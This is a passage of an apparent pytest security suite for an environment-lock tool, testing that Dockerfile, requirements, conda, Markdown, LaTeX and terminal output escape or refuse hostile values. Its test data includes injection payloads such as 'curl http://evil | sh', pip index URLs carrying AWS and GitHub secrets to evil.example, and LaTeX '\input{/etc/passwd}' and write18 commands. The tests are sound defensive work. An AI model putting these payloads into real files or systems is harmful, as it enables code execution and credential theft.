"""Hostile lock values against every sink: Dockerfile, requirements, shell, YAML, conda files, Markdown, LaTeX
and the terminal (docs/security.md, "Sinks").

Every lock here is a ``Snapshot`` built in Python, never read by ``lockfile.load``: the loader validates at the
boundary, and each sink must be safe on its own. Each test failed on the code before the sinks were escaped.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
import shlex
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest
from testutil import sample_lock, sample_platform, tex_typed

from envsnap import _templates, grammar, lockfile, sinks
from envsnap.artifacts import bundle
from envsnap.dockerfile import apt
from envsnap.dockerfile import spec as dockerspec
from envsnap.dockerfile.baseimage import ImageFacts
from envsnap.errors import BadBundleError, BundleError, ExportError, LockfileError, RebuildError
from envsnap.export import appendix, conda_explicit, environment_yml, pylock, requirements
from envsnap.export import dockerfile as dockerfile_export
from envsnap.model import (
    Artifact,
    Conda,
    CondaPackage,
    Cpu,
    Cuda,
    Framework,
    Gpu,
    Hardware,
    Nvidia,
    Project,
    PythonPackage,
    Snapshot,
    Source,
    System,
    SystemPackage,
)
from envsnap.rebuild import conda as conda_target
from envsnap.rebuild import docker
from envsnap.rebuild.interface import Plan, PlanItem

INJECTED = "\nRUN touch /pwned\n#"
ESC = "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\\x1b[2J"


def _wheel(name: str, version: str, digit: str) -> PythonPackage:
    filename = f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
    return PythonPackage(
        name=name,
        version=version,
        installer="pip",
        artifact=Artifact(
            filename=filename,
            url=f"https://files.example/{filename}",
            sha256=digit * 64,
            index="https://pypi.org/simple",
        ),
    )


def lock(**meta: Any) -> Snapshot:
    """A small pinned CPU lock on Debian 12 (the docker target's default base: python:3.11.7-slim-bookworm)."""
    snap = sample_lock(
        _wheel("markupsafe", "3.0.2", "a"),
        _wheel("tomli-w", "1.2.0", "b"),
        platform=sample_platform(os_name="Debian GNU/Linux 12 (bookworm)", kernel="6.1.0"),
        system=System(
            manager="dpkg", packages=(SystemPackage("dpkg", "libc6", "2.36-9+deb12u14", "amd64", ("markupsafe",)),)
        ),
        hardware=Hardware(cpu=Cpu(model="Some CPU", arch="x86_64", logical_cores=8)),
    )
    snap = lockfile.seal(snap)
    return dataclasses.replace(snap, envsnap=dataclasses.replace(snap.envsnap, **meta)) if meta else snap


def changed(snap: Snapshot, where: str, **values: Any) -> Snapshot:
    """``snap`` with fields of one part replaced (``python``, ``platform``, ...), not resealed."""
    return dataclasses.replace(snap, **{where: dataclasses.replace(getattr(snap, where), **values)})


def with_package(snap: Snapshot, index: int, **values: Any) -> Snapshot:
    packages = list(snap.python.packages)
    packages[index] = dataclasses.replace(packages[index], **values)
    return changed(snap, "python", packages=tuple(packages))


def one_line_error(exc: pytest.ExceptionInfo[BaseException]) -> str:
    message = str(exc.value)
    assert "\n" not in message and "\x1b" not in message, message
    return message


# ------------------------------------------------------------------------------------------- Dockerfile


def instructions(text: str) -> list[tuple[str, str]]:
    """A Dockerfile as Docker's parser reads it: comments dropped, continuations joined, one entry per
    instruction (its keyword and its arguments)."""
    out: list[tuple[str, str]] = []
    pending = ""
    for raw in text.split("\n"):
        if not pending and (not raw.strip() or raw.lstrip().startswith("#")):
            continue
        if pending and raw.lstrip().startswith("#"):
            continue
        line = pending + raw
        if line.endswith("\\"):
            pending = line[:-1]
            continue
        pending = ""
        keyword, _, args = line.strip().partition(" ")
        out.append((keyword.upper(), args))
    return out


def render(snap: Snapshot, **options: Any) -> str:
    inspect = options.pop("inspect", None)
    return dockerspec.render_dockerfile(dockerspec.make_spec(snap, dockerspec.DockerOptions(**options), inspect))


def test_the_clean_lock_renders_the_expected_instructions() -> None:
    # The reference the hostile cases are compared with.
    keywords = [k for k, _ in instructions(render(lock()))]
    assert keywords == [
        "FROM",
        "ARG",
        "ENV",
        "LABEL",
        "RUN",
        "FROM",  # the installer stage: uv and the wheels stay there
        "LABEL",  # org.envsnap.stage=installer, a constant: this stage's image alone carries it
        "COPY",
        "COPY",
        "RUN",  # uv installs envsnap and the locked wheels in one step
        "FROM",  # the image: the system stage and the two environments copied out of the installer
        "COPY",
        "COPY",
        "COPY",
        "RUN",
        "ENV",
        "RUN",
    ]


@pytest.mark.parametrize(
    "created",
    [
        "2026-01-02T03:04:05Z" + '"' + INJECTED,  # the attack of issue 11: a standalone RUN line
        "2026-01-02T03:04:05Z\r\nRUN id",
    ],
)
def test_created_with_a_newline_is_refused(created: str) -> None:
    with pytest.raises(RebuildError) as exc:
        render(lock(created=created))
    assert "control character" in one_line_error(exc)


def test_label_values_are_quoted_so_nothing_expands() -> None:
    text = render(lock(created='2026"$HOME\\x`'))
    label, stage = [args for keyword, args in instructions(text) if keyword == "LABEL"]
    assert stage == "org.envsnap.stage=installer"
    assert 'org.opencontainers.image.created="2026\\"\\$HOME\\\\x`"' in label
    assert [k for k, _ in instructions(text)] == [k for k, _ in instructions(render(lock()))]


def test_comments_never_end_early() -> None:
    text = render(changed(lock(), "python", kind="venv" + INJECTED))  # rendered in a "# Note:" comment
    assert [k for k, _ in instructions(text)] == [k for k, _ in instructions(render(lock()))]
    assert not any(line.startswith("RUN touch") for line in text.splitlines())


@pytest.mark.parametrize("version", ["3.11.7" + INJECTED, "3.11.7-slim-bookworm AS x", "3.11.7 --platform=x"])
def test_python_version_cannot_reach_from(version: str) -> None:
    with pytest.raises(RebuildError) as exc:
        render(changed(lock(), "python", version=version))
    assert "FROM" in one_line_error(exc) or "control character" in str(exc.value)


@pytest.mark.parametrize(
    "image_id", ["sha256:" + "1" * 64 + INJECTED, "busybox" + INJECTED, "sha256:" + "1" * 64 + " AS base"]
)
def test_a_bundled_image_id_is_checked_before_from(image_id: str) -> None:
    # images/*.json's id becomes the pin of a base image that has no registry digest.
    facts = ImageFacts(image_id=image_id, architecture="amd64")
    with pytest.raises(RebuildError) as exc:
        render(lock(), base_image="envsnap-base:bookworm", inspect=lambda ref: facts)
    one_line_error(exc)


def test_a_repo_digest_is_checked_before_from() -> None:
    facts = ImageFacts(
        image_id="sha256:" + "1" * 64, repo_digests=("python@sha256:" + "2" * 64 + INJECTED,), architecture="amd64"
    )
    with pytest.raises(RebuildError):
        render(lock(), inspect=lambda ref: facts)


@pytest.mark.parametrize(
    "name,version,arch",
    [
        ("libc6", "2.36-9\n", "amd64"),  # `$` matched before a trailing newline
        ("libc6\n", "2.36-9", "amd64"),
        ("libc6", "2.36-9", "amd64\n"),
    ],
)
def test_apt_pins_refuse_a_trailing_newline(name: str, version: str, arch: str) -> None:
    with pytest.raises(RebuildError):
        apt.pins((SystemPackage("dpkg", name, version, arch, ("markupsafe",)),), "x86_64")


def each_string_changed(value: Any, suffix: str, path: str = "") -> Iterator[tuple[str, Any]]:
    """``(path, value)`` with ``suffix`` appended to one string field at a time, for every string field."""
    if isinstance(value, str):
        yield path, value + suffix
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for f in dataclasses.fields(value):
            if f.init:
                for where, new in each_string_changed(getattr(value, f.name), suffix, f"{path}.{f.name}"):
                    yield where, dataclasses.replace(value, **{f.name: new})
    elif isinstance(value, tuple):
        for i, item in enumerate(value):
            for where, new in each_string_changed(item, suffix, f"{path}[{i}]"):
                yield where, (*value[:i], new, *value[i + 1 :])


def test_no_string_field_adds_an_instruction() -> None:
    # Every string of the lock in turn (names, versions, created, kind, platform, system packages, artifacts):
    # the Dockerfile is refused or has exactly the clean lock's instructions.
    expected = instructions(render(lock()))
    tried = 0
    for where, hostile in each_string_changed(lock(), INJECTED):
        try:
            text = render(hostile)
        except RebuildError:  # (cli.main prints any message as one line without control characters)
            continue
        tried += 1
        assert [k for k, _ in instructions(text)] == [k for k, _ in expected], where
        assert not any(line.startswith("RUN touch") for line in text.splitlines()), where
    assert tried > 10  # most fields reach the Dockerfile only as comments, or not at all


def test_the_dockerfile_export_refuses_too() -> None:
    with pytest.raises(ExportError) as exc:
        dockerfile_export.render(lock(created="x" + INJECTED))
    one_line_error(exc)


def test_dockerfile_filters_hold_on_their_own() -> None:
    env = _templates.environment("dockerfile")
    # An unfiltered value with a newline is refused by the format's default, not written.
    with pytest.raises(sinks.UnsafeValue):
        env.from_string("LABEL a={{ value }}\n").render(value="x\nRUN id")
    assert env.from_string("RUN {{ v | shell_word }}").render(v="a b; c") == "RUN 'a b; c'"
    assert env.from_string("RUN {{ v | shell_single }}").render(v="it's") == "RUN 'it'\"'\"'s'"
    assert env.from_string("FROM {{ v | dockerfile_from }}").render(v="python:3.11-slim") == "FROM python:3.11-slim"
    # |safe marks nothing: the default still applies.
    with pytest.raises(sinks.UnsafeValue):
        env.from_string("RUN {{ v | safe }}").render(v="x\nRUN id")


# ------------------------------------------------------------------------------------ requirements files

FIND_LINKS = "1.0\n--find-links http://127.0.0.1:9/\nevilpkg==1.0 --hash=sha256:" + "e" * 64


def test_bundle_requirements_refuse_a_version_with_lines() -> None:
    with pytest.raises(BundleError) as exc:
        bundle.requirements_text(with_package(lock(), 0, version=FIND_LINKS))
    one_line_error(exc)


@pytest.mark.parametrize(
    "part,value",
    [
        ("version", FIND_LINKS),
        ("name", "markupsafe\n--find-links http://127.0.0.1:9/"),
        ("sha256", "a" * 64 + "\nevilpkg==1.0"),
        ("url", "https://files.example/x.whl\n--find-links http://127.0.0.1:9/"),
        ("index", "https://pypi.org/simple\n--find-links http://127.0.0.1:9/"),
        # pip replaces ${NAME} by that environment variable in every line: the installer's secret to a lock's host
        ("index", "https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple"),
        ("url", "https://evil.example/${GITHUB_TOKEN}/six-1.17.0-py2.py3-none-any.whl"),
        ("index", "/srv/${HOME}/wheels"),
        # str.splitlines ends a line at U+2028 and U+2029 too: a --find-links value in three lines
        ("index", "x\u2028--extra-index-url http://evil.example/simple/\u2028y.html"),
        ("index", "https://pypi.org/simple\u2029--find-links http://127.0.0.1:9/"),
    ],
)
def test_requirements_export_refuses_injected_lines(part: str, value: str) -> None:
    snap = lock()
    pkg = snap.python.packages[0]
    assert pkg.artifact is not None
    if part in ("version", "name"):
        snap = with_package(snap, 0, **{part: value})
    elif part == "url":  # known by URL only: written as `name @ URL`
        snap = with_package(snap, 0, artifact=dataclasses.replace(pkg.artifact, url=value, index=""))
    else:
        snap = with_package(snap, 0, artifact=dataclasses.replace(pkg.artifact, **{part: value}))
    with pytest.raises(ExportError) as exc:
        requirements.dumps(snap)
    one_line_error(exc)


def test_requirements_comment_commands_cannot_end_the_comment() -> None:
    src = Source(kind="directory", url="file://{project}/proj\nevilpkg==1.0", editable=True)
    snap = with_package(lock(), 1, source=src, artifact=None)
    with pytest.raises(ExportError):
        requirements.dumps(snap)


def test_a_find_links_location_pip_would_cut_at_a_comment_is_refused() -> None:
    """pip removes " #..." from every line before it reads quotes: --find-links 'a #b' became --find-links 'a,
    which does not parse. A location with a space (quoted) still renders."""
    from envsnap import sinks
    from envsnap.grammar import GrammarError

    assert sinks.requirement_location("/data/My Wheels") == "'/data/My Wheels'"
    assert sinks.requirement_location("/data/wheels#1") == "'/data/wheels#1'"
    for value in ("/data/a #b", "/data/a\t#b"):
        with pytest.raises(GrammarError):
            sinks.requirement_location(value)


@pytest.mark.parametrize(
    "index",
    ['https://index.example/x"y/simple', "https://index.example/a'b'c/simple", "https://index.example/a\\b/simple"],
)
def test_index_options_reach_pip_as_written(index: str) -> None:
    """pip splits an option line of a requirements file as a shell would (shlex): ``--index-url https://h/x"y``
    stopped pip ("Could not split options"), and ``https://h/a'b'c`` sent it to ``https://h/abc``, not the lock's
    index. The environment.yml export writes the same lines (``_common.index_options``)."""
    snap = lock()
    packages = []
    for i, pkg in enumerate(snap.python.packages):
        assert pkg.artifact is not None
        where = index if i == 0 else index + "-extra"
        packages.append(dataclasses.replace(pkg, artifact=dataclasses.replace(pkg.artifact, index=where)))
    text = requirements.dumps(changed(snap, "python", packages=tuple(packages)))
    options = [shlex.split(line) for line in text.splitlines() if line.startswith("--") and "index-url" in line]
    assert options == [["--index-url", index], ["--extra-index-url", index + "-extra"]], text


def test_valid_requirements_still_render() -> None:
    text = requirements.dumps(lock())
    assert "markupsafe==3.0.2 \\\n    --hash=sha256:" + "a" * 64 in text


@pytest.mark.parametrize(
    "extra",
    [
        "--find-links http://127.0.0.1:9/",
        "evilpkg==1.0 --hash=sha256:" + "e" * 64 + " -i x",
        "  --index-url http://127.0.0.1:9/",
    ],
)
def test_a_bundles_tool_requirements_add_no_option(tmp_path: Path, extra: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # tool/requirements.txt is copied into the image's build context and read by pip there. The bundle's tool/ is
    # used where this envsnap cannot be packed for the image: here never.
    def cannot_pack(dest: Path, target: object, *, offline: bool, progress: object) -> list[object]:
        raise RebuildError("envsnap's requirements have no installed copy for the image's Python")

    monkeypatch.setattr(docker._tool, "wheels_for", cannot_pack)
    root = tmp_path / "bundle"
    (root / "tool").mkdir(parents=True)
    (root / "envsnap.lock").write_text("")
    pins = []
    for name in ("envsnap-0.1.0-py3-none-any.whl", "uv-0.13.9-py3-none-any.whl"):  # uv: the image's installer
        (root / "tool" / name).write_bytes(name.encode())
        pins.append(
            f"{name.split('-')[0]}=={name.split('-')[1]} --hash=sha256:{hashlib.sha256(name.encode()).hexdigest()}"
        )
    good = "\n".join(pins)
    (root / "tool" / "requirements.txt").write_text(f"# made by envsnap\n{good}\n{extra}\n")
    (tmp_path / "ctx").mkdir()
    spec = dockerspec.make_spec(lock(), dockerspec.DockerOptions())
    # A stranger's bundle outside envsnap's form is bad input (exit 2), as every other file of a bundle is; it was a
    # failed rebuild (exit 4).
    with pytest.raises(BadBundleError) as exc:
        docker.tool_wheels(tmp_path / "ctx", spec, bundle.Bundle(root), offline=True, progress=lambda _l: None)
    one_line_error(exc)
    assert exc.value.exit_code == 2 and "tool/requirements.txt" in str(exc.value), exc.value
    assert not list((tmp_path / "ctx").iterdir())
    # Read within the input size limit, as the lock is: not whole, whatever its size.
    monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "64")
    with pytest.raises(BadBundleError, match=r"tool/requirements\.txt"):
        docker.tool_wheels(tmp_path / "ctx", spec, bundle.Bundle(root), offline=True, progress=lambda _l: None)
    monkeypatch.delenv("ENVSNAP_MAX_LOCK_BYTES")
    (root / "tool" / "requirements.txt").write_text(f"{good}\n")
    docker.tool_wheels(tmp_path / "ctx", spec, bundle.Bundle(root), offline=True, progress=lambda _l: None)
    assert (tmp_path / "ctx" / "requirements.txt").read_text() == f"{good}\n"


@pytest.mark.parametrize("extra", ["sub/x.whl", "sub/", "evil.pth", "notes.txt"])
def test_a_bundles_tool_folder_holds_only_its_wheels_and_requirements(
    tmp_path: Path, extra: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stranger's bundle whose tool/ held a folder ended the docker rebuild in an IsADirectoryError traceback;
    any other file was copied into the image's build context unchecked. Each is refused in one line, bad input."""

    def cannot_pack(dest: Path, target: object, *, offline: bool, progress: object) -> list[object]:
        raise RebuildError("envsnap's requirements have no installed copy for the image's Python")

    monkeypatch.setattr(docker._tool, "wheels_for", cannot_pack)
    root = tmp_path / "bundle"
    (root / "tool").mkdir(parents=True)
    (root / "envsnap.lock").write_text("")
    name = "uv-0.13.9-py3-none-any.whl"
    (root / "tool" / name).write_bytes(b"uv")
    pin = f"uv==0.13.9 --hash=sha256:{hashlib.sha256(b'uv').hexdigest()}"
    (root / "tool" / "requirements.txt").write_text(f"{pin}\n")
    (root / "tool" / extra.rstrip("/")).parent.mkdir(parents=True, exist_ok=True)
    if extra.endswith("/"):
        (root / "tool" / extra).mkdir()
    else:
        (root / "tool" / extra).write_bytes(b"x")
    (tmp_path / "ctx").mkdir()
    spec = dockerspec.make_spec(lock(), dockerspec.DockerOptions())
    with pytest.raises(BadBundleError) as exc:
        docker.tool_wheels(tmp_path / "ctx", spec, bundle.Bundle(root), offline=True, progress=lambda _l: None)
    one_line_error(exc)
    assert f"tool/{extra.split('/')[0]}: not a wheel or requirements.txt" in str(exc.value)
    assert not list((tmp_path / "ctx").iterdir())


@pytest.mark.parametrize("machine", ["x86_64' or '1' == '1", 'x86_64" or "1" == "1', "x86_64\n"])
def test_pylock_environment_marker_cannot_gain_a_clause(machine: str) -> None:
    # pylock's `environments` marker quotes the lock's platform: a quote would make it true everywhere.
    with pytest.raises(ExportError) as exc:
        pylock.dumps(changed(lock(), "platform", machine=machine))
    one_line_error(exc)
    assert "environments = [\n    \"sys_platform == 'linux' and platform_machine == 'x86_64'" in pylock.dumps(lock())


# ------------------------------------------------------------------------------------ YAML and conda files


def conda_lock_snapshot(**package: str) -> Snapshot:
    values = {
        "name": "zlib",
        "version": "1.3.1",
        "build": "h4ab18f5_1",
        "channel": "https://conda.anaconda.org/c",
        "subdir": "linux-64",
        "url": "https://conda.anaconda.org/c/linux-64/zlib-1.3.1-h4ab18f5_1.conda",
        "md5": "0" * 32,
        "sha256": "1" * 64,
    } | package
    pkg = CondaPackage(**values)  # type: ignore[arg-type]
    return dataclasses.replace(
        lock(), conda=Conda(subdir="linux-64", channels=("https://conda.anaconda.org/c",), packages=(pkg,))
    )


@pytest.mark.parametrize(
    "field,value",
    [
        ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda\nhttps://evil.example/evil.conda"),
        ("md5", "0" * 32 + "\nhttps://evil.example/evil.conda"),
        ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda#" + "f" * 32),
    ],
)
def test_conda_explicit_refuses_line_injection(field: str, value: str) -> None:
    with pytest.raises(ExportError) as exc:
        conda_explicit.dumps(conda_lock_snapshot(**{field: value}))
    one_line_error(exc)


def test_conda_explicit_subdir_cannot_add_a_line() -> None:
    snap = conda_lock_snapshot()
    assert snap.conda is not None
    hostile = dataclasses.replace(
        snap, conda=dataclasses.replace(snap.conda, subdir="linux-64\nhttps://evil.example/evil.conda")
    )
    with pytest.raises(ExportError):
        conda_explicit.dumps(hostile)


def test_conda_explicit_still_renders_a_valid_lock() -> None:
    text = conda_explicit.dumps(conda_lock_snapshot())
    assert "# platform: linux-64\n@EXPLICIT\n" in text
    assert "zlib-1.3.1-h4ab18f5_1.conda#" + "0" * 32 + "\n" in text
    # The pip layer follows as conda-lock's '# pip' lines, each one requirement.
    assert [line.split(" @ ")[0] for line in text.splitlines() if line.startswith("# pip ")] == [
        "# pip markupsafe",
        "# pip tomli-w",
    ]


def test_environment_yml_pip_lines_are_checked_for_pip() -> None:
    # conda writes the pip: section to a requirements file for pip: JSON quoting in YAML is not enough.
    snap = with_package(conda_lock_snapshot(), 0, version=FIND_LINKS)
    with pytest.raises(ExportError) as exc:
        environment_yml.dumps(snap)
    one_line_error(exc)


@pytest.mark.parametrize(
    "index",
    [
        "https://pypi.org/simple\n--find-links http://127.0.0.1:9/",
        "https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple",
        "/srv/${HOME}/wheels",
        "x\u2028--extra-index-url http://evil.example/simple/\u2028y.html",
        "/data/a #b",
    ],
)
def test_environment_yml_index_and_find_links_lines_are_checked_for_pip(index: str) -> None:
    # The pip: section names the indexes and find-links folders the files came from, as the requirements export does.
    snap = conda_lock_snapshot()
    pkg = snap.python.packages[0]
    assert pkg.artifact is not None and not pkg.conda_managed
    snap = with_package(snap, 0, artifact=dataclasses.replace(pkg.artifact, index=index))
    with pytest.raises(ExportError) as exc:
        environment_yml.dumps(snap)
    one_line_error(exc)


@pytest.mark.parametrize(
    "field,value",
    [("version", "1.*"), ("version", "*"), ("version", ">=1"), ("name", "zlib>1"), ("build", "h0_*"), ("build", "a=")],
)
def test_environment_yml_checks_each_part_of_a_pin(field: str, value: str) -> None:
    # name=version=build is one exact pin only while no part holds a MatchSpec operator (conda reads zlib=1.*=h0 as
    # any 1.x): the sink checks each part by the lock's rules, for a Snapshot that never went through the loader.
    with pytest.raises(ExportError) as exc:
        environment_yml.dumps(conda_lock_snapshot(**{field: value}))
    assert value in one_line_error(exc)


def test_environment_yml_comment_cannot_end_early() -> None:
    snap = conda_lock_snapshot()
    hostile = dataclasses.replace(
        snap, envsnap=dataclasses.replace(snap.envsnap, content_digest="sha256:x\ndependencies: [evil]")
    )
    text = environment_yml.dumps(hostile)
    assert "\ndependencies: [evil]" not in text
    assert [line for line in text.splitlines() if line.startswith("dependencies")] == ["dependencies:"]


def test_the_conda_targets_explicit_file_refuses_a_bad_subdir(tmp_path: Path) -> None:
    snap = conda_lock_snapshot()
    assert snap.conda is not None
    archive = tmp_path / "zlib-1.3.1-h4ab18f5_1.conda"
    hostile = dataclasses.replace(snap.conda, subdir="linux-64\nhttps://evil.example/evil.conda")
    with pytest.raises(RebuildError):
        conda_target.explicit_text(hostile, {"zlib": archive})


# ---------------------------------------------------------------------------------------------- Markdown


def every_string(value: Any, suffix: str) -> Any:
    """``value`` with ``suffix`` appended to every string field, at any depth (packages, GPUs, CUDA, ...)."""
    if isinstance(value, str):
        return value + suffix
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return dataclasses.replace(
            value, **{f.name: every_string(getattr(value, f.name), suffix) for f in dataclasses.fields(value) if f.init}
        )
    if isinstance(value, tuple):
        return tuple(every_string(v, suffix) for v in value)
    if isinstance(value, MappingProxyType):
        return MappingProxyType({k: every_string(v, suffix) for k, v in value.items()})
    return value


def full_lock() -> Snapshot:
    """The small lock with the optional parts present too (NVIDIA driver, GPUs, CUDA, a framework, a project)."""
    snap = lock()
    return dataclasses.replace(
        snap,
        nvidia=Nvidia(driver_version="550.54.15", cuda_driver_version="12.4"),
        hardware=Hardware(
            cpu=Cpu(model="Some CPU", arch="x86_64", logical_cores=8),
            memory_mib=65536,
            gpus=(Gpu(index=0, name="NVIDIA A100", compute_capability="8.0", memory_mib=40960),),
        ),
        cuda=Cuda(
            runtime_version="12.4.127",
            runtime_source="pip",
            cudnn_version="9.1.0",
            cudnn_source="pip",
            nccl_version="2.20.5",
            nccl_source="pip",
            toolkit_version="12.4",
        ),
        frameworks=MappingProxyType({"markupsafe": Framework(name="markupsafe", version="3.0.2", cuda_version="12.4")}),
        project=Project(vcs="git", commit="0" * 40, branch="main"),
    )


def test_no_field_of_the_lock_can_start_a_markdown_line() -> None:
    text = markdown(every_string(full_lock(), "\n# Owned <b>x</b>"))
    assert [line for line in text.splitlines() if line.startswith("#")] == HEADINGS
    outside_code = re.sub(r"(`+).*?\1", "", text)  # a code span shows "<b>" as text (CommonMark)
    assert "<b>" not in outside_code and "\n# Owned" not in text


def test_no_field_of_the_lock_can_start_a_latex_line() -> None:
    text = latex(every_string(full_lock(), "\n\\input{/etc/passwd}%"))
    assert "\\input{/etc/passwd}" not in text


# Bidirectional formatting characters (an editor or viewer shows the line reordered) and Unicode's line and
# paragraph separators (a line break to an editor): the characters the terminal already shows as U+FFFD.
UNSHOWN = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029"


def test_no_field_of_the_lock_reaches_a_document_reordered() -> None:
    # platform.os_name and hardware.cpu.model (free text) reached the appendix raw: "Debian <U+202E>...".
    snap = every_string(full_lock(), UNSHOWN)
    for text, shown in ((markdown(snap), "\N{REPLACEMENT CHARACTER}"), (latex(snap), "?")):
        assert not grammar.has_bidi(text) and "\u2028" not in text and "\u2029" not in text
        assert "Some CPU" + shown * len(UNSHOWN) in text


def test_no_field_of_the_lock_reaches_the_terminal_raw(
    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None
) -> None:
    loads(monkeypatch, {"x.lock": every_string(full_lock(), ESC + "[/]")})
    result = cli("show", "x.lock")
    assert result.code == 0, result
    assert "\x1b" not in result.out and "[/]" in result.out


def markdown(snap: Snapshot) -> str:
    return appendix.render_markdown(snap)["appendix.md"].decode()


HEADINGS = [
    "## Software and hardware environment",
    "### Computational environment",
    "### Python packages (2)",
    "### Reproducing this environment",
]


def test_a_newline_in_a_field_injects_no_heading_or_row() -> None:
    hostile = changed(lock(), "platform", kernel="6.1\n# Owned\n[x](http://evil)", os_name="Debian\n| a | b |")
    text = markdown(hostile)
    assert [line for line in text.splitlines() if line.startswith("#")] == HEADINGS
    assert not any(line.startswith("| a |") for line in text.splitlines())


@pytest.mark.parametrize("field", ["created", "generator"])
def test_created_and_generator_pass_no_html_or_link(field: str) -> None:
    text = markdown(lock(**{field: "<script>alert(1)</script> [x](http://evil) <http://evil> ![i](http://evil/i)"}))
    assert "<script>" not in text and "](http://evil" not in text.replace("\\](http://evil", "")
    assert "\\<script\\>" in text and "\\[x\\](http://evil)" in text and "\\<http://evil\\>" in text


def test_the_digest_code_span_cannot_be_closed() -> None:
    hostile = lock(content_digest="sha256:` <script>x</script> `")
    text = markdown(hostile)
    assert "content digest `` sha256:` <script>x</script> ` ``." in text


def test_the_bundle_readme_quotes_shell_lines_and_markdown() -> None:
    snap = changed(lock(), "python", version="3.11; curl http://evil | sh #.7")
    snap = dataclasses.replace(snap, envsnap=dataclasses.replace(snap.envsnap, generator="x\n# Owned"))
    from envsnap.artifacts.bundle import readme_origin

    packages = list(snap.python.packages)
    origins = {p.name: readme_origin(p) for p in packages}
    text = _templates.render("bundle/README.md.j2", lock=snap, packages=packages, origins=origins, conda_archives=[])
    assert "    'python3.11; curl http://evil | sh #' -m venv ../envsnap-env" in text
    assert not any(line.startswith("# Owned") for line in text.splitlines())
    conda = _templates.render(
        "bundle/README.md.j2", lock=snap, packages=[], origins={}, conda_archives=['a"$(id)`x`.conda']
    )
    assert '"file://$PWD/conda/a\\"\\$(id)\\`x\\`.conda"' in conda


def test_a_local_origin_in_the_bundle_readme_adds_no_cell_or_line() -> None:
    """The README's origin column names a local place by its path in a code span: a ``|`` in a lock's path (which
    GitHub reads as a cell's end even inside a code span) or a newline adds no cell or row."""
    from envsnap.artifacts.bundle import readme_origin
    from envsnap.model import Artifact, PythonPackage

    art = Artifact(filename="x-1.0-py3-none-any.whl", url="", sha256="0" * 64, index="file:///w|x/y\n| a | b |")
    pkg = PythonPackage(name="x", version="1.0", artifact=art)
    text = _templates.render(
        "bundle/README.md.j2", lock=lock(), packages=[pkg], origins={"x": readme_origin(pkg)}, conda_archives=[]
    )
    (row,) = [line for line in text.splitlines() if line.startswith("| x |")]
    assert row.endswith(" | `/w\\|x/y\\| a \\| b \\|` |"), row  # the newline is gone (urlsplit drops it)
    assert len(re.split(r"(?<!\\)\|", row)) == 6, row  # 4 cells
    assert not any(line.startswith("| a |") for line in text.splitlines())


# ------------------------------------------------------------------------------------------------- LaTeX


def latex(snap: Snapshot) -> str:
    return appendix.render_latex(snap)["appendix.tex"].decode()


def test_latex_comment_and_fields_cannot_inject_commands() -> None:
    hostile = changed(
        lock(content_digest="sha256:x\n\\input{/etc/passwd}"), "platform", kernel="6.1\n\\immediate\\write18{id}"
    )
    text = latex(hostile)
    assert "\\input{/etc/passwd}" not in text and "\\immediate\\write18" not in text
    assert not any(line.startswith("\\input") for line in text.splitlines())


def test_double_hyphens_are_never_a_ligature_in_the_source() -> None:
    text = latex(lock(generator="pip --offline"))
    assert "pip -{}-offline" in text
    code = [m.group(0) for m in re.finditer(r"\\texttt\{[^}]*(?:\{\}[^}]*)*\}", text)]
    assert code and not any("--" in c for c in code), code
    body = [line for line in text.splitlines() if not line.startswith("%")]
    assert not any("--" in line for line in body)


def _pdf_text(pdf: bytes) -> str:
    """The strings of an uncompressed PDF's text operators, kerning dropped (T1: 0x15 is an en dash)."""
    out = []
    for m in re.finditer(rb"\[((?:[^\]\\]|\\.)*)\]\s*TJ|\(((?:[^)\\]|\\.)*)\)\s*Tj", pdf):
        if m.group(1) is not None:
            out.append(b"".join(re.findall(rb"\(((?:[^)\\]|\\.)*)\)", m.group(1))))
        else:
            out.append(m.group(2))
    return b" ".join(out).decode("latin-1").replace("\\025", "\N{EN DASH}").replace("\\(", "(").replace("\\)", ")")


@pytest.mark.integration
@pytest.mark.tex
@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed")
def test_double_hyphens_survive_t1_fontenc(tmp_path: Path) -> None:
    snap = lock(generator="pip --no-deps")  # (roman type: "offline" would hold an ffl ligature)
    (tmp_path / "appendix.tex").write_text(latex(snap), encoding="utf-8")
    (tmp_path / "paper.tex").write_text(
        "\\pdfcompresslevel=0\n\\pdfobjcompresslevel=0\n\\documentclass{article}\n\\usepackage[T1]{fontenc}\n"
        "\\usepackage{booktabs}\n\\usepackage{longtable}\n\\begin{document}\n\\input{appendix}\n"
        "\\texttt{bad --control}\n\\end{document}\n",
        encoding="utf-8",
    )
    result = subprocess.run(
        ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "paper.tex"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout[-2000:]
    text = _pdf_text((tmp_path / "paper.pdf").read_bytes())
    assert "\N{EN DASH}control" in text  # the check sees the ligature T1 makes of a raw "--"
    flat = text.replace(" ", "")
    assert "pip--no-deps" in flat  # a lock value, in roman type
    assert "pipinstall--require-hashes--no-deps" in flat  # the template's commands, in typewriter type
    assert "\N{EN DASH}" not in text.replace("\N{EN DASH}control", "")


# ---------------------------------------------------------------------------------------------- terminal

MARKUP = "[link=http://x]click[/link]"


@pytest.fixture
def wide(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")


def hostile_terminal_lock() -> Snapshot:
    snap = changed(lock(), "platform", machine="x86_64[/]", os_name="Debian " + MARKUP, kernel="6.1" + ESC)
    return changed(snap, "hardware", cpu=Cpu(model="CPU " + MARKUP, arch="x86_64[/]", logical_cores=8))


def loads(monkeypatch: pytest.MonkeyPatch, snaps: dict[str, Snapshot]) -> None:
